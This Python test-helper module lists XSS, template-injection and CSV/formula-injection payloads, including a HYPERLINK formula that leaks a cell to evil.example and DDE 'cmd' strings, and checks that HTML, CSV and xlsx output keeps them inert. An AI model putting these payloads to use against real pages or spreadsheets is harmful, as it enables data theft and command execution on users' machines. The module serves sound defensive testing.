"""Hostile strings, and checks that a page, a CSV or a workbook holds none of them in an active form.

A page is active when it has a tag that runs or loads something (script, img, iframe, ...), an
``on...`` attribute, or a ``javascript:``/``data:`` link. A CSV or workbook cell is active when a
spreadsheet would read it as a formula: a workbook formula cell, or text starting with ``=``,
``+``, ``-``, ``@``, tab or CR that is not a plain number and not quote-prefixed.
"""

from __future__ import annotations

import csv
import html
import io
import re
from html.parser import HTMLParser
from pathlib import Path

PAYLOADS = (
    "<img src=x onerror=alert(1)>",
    "<script>alert(document.cookie)</script>",
    '"><svg onload=alert(1)>',
    "'><iframe src=javascript:alert(1)>",
    "</td></tr></table><a href=javascript:alert(1)>click</a>",
    "javascript:alert(1)",
    "{{ 7*7 }}{% raw %}",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
"""OWASP's CSV injection and XSS examples, and a template expression."""
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?[0-9]+([.][0-9]+)?")
RUNS = {"script", "img", "iframe", "object", "embed", "link", "base", "form", "input", "button",
        "frame", "frameset", "video", "audio", "source", "image", "use", "foreignobject", "animate", "set", "math"}
LINKS = {"href", "src", "xlink:href", "action", "formaction", "data"}


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.text: list[str] = []
        self.shape: list[tuple[str, tuple[str, ...]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.shape.append((tag, tuple(sorted(name for name, _ in attrs))))
        if tag in RUNS or (tag == "meta" and any(name == "http-equiv" for name, _ in attrs)):
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=...>")
            if name in LINKS and re.sub(r"[\s\x00-\x1f]", "", value or "").lower().startswith(
                    ("javascript:", "data:", "vbscript:")):
                self.problems.append(f"<{tag} {name}={value!r}>")

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def html_problems(page: str) -> list[str]:
    """What in ``page`` would run or load something a payload brought."""
    parser = _Tags()
    parser.feed(page)
    parser.close()
    return parser.problems


def html_shape(page: str) -> list[tuple[str, tuple[str, ...]]]:
    """Every element and its attribute names, in order: what text, escaped, can never change."""
    parser = _Tags()
    parser.feed(page)
    parser.close()
    return parser.shape


def html_text(page: str) -> str:
    """The text a reader sees (entities decoded), runs of white space as one space."""
    parser = _Tags()
    parser.feed(page)
    parser.close()
    return squash(html.unescape("".join(parser.text)))


def shows(page: str, text: str) -> bool:
    """Whether a reader of ``page`` sees ``text`` (white space as the browser folds it)."""
    return squash(text) in html_text(page)


def squash(text: str) -> str:
    return " ".join(text.split())


def active_cell(value: str) -> bool:
    return value.startswith(TRIGGERS) and not NUMBER.fullmatch(value)


def csv_problems(path: Path) -> list[str]:
    """Cells of the CSV at ``path`` a spreadsheet would run."""
    return [cell for row in _rows(path) for cell in row if active_cell(cell)]


def _rows(path: Path) -> list[list[str]]:
    """The rows as a spreadsheet splits them: a CR or LF outside quotes ends a row."""
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


def csv_cells(path: Path) -> set[str]:
    return {cell for row in _rows(path) for cell in row}


def xlsx_problems(path: Path) -> list[str]:
    """Cells of the workbook at ``path`` that are formulas, or text a spreadsheet would turn into one."""
    from openpyxl import load_workbook

    problems = []
    for sheet in load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    problems.append(f"{sheet.title}!{cell.coordinate} formula {cell.value!r}")
                elif isinstance(cell.value, str) and active_cell(cell.value) and not cell.quotePrefix:
                    problems.append(f"{sheet.title}!{cell.coordinate} {cell.value!r}")
    return problems


def xlsx_cells(path: Path) -> set[object]:
    """Every value in the workbook; text with CR as LF, as XML reads a stored CR back."""
    from openpyxl import load_workbook

    return {cell.value.replace("\r", "\n") if isinstance(cell.value, str) else cell.value
            for sheet in load_workbook(path).worksheets for row in sheet.iter_rows() for cell in row}


def in_xlsx(text: str) -> str:
    """``text`` as :func:`xlsx_cells` gives it back: control characters a workbook cannot hold replaced."""
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    return ILLEGAL_CHARACTERS_RE.sub("\N{REPLACEMENT CHARACTER}", text).replace("\r", "\n")
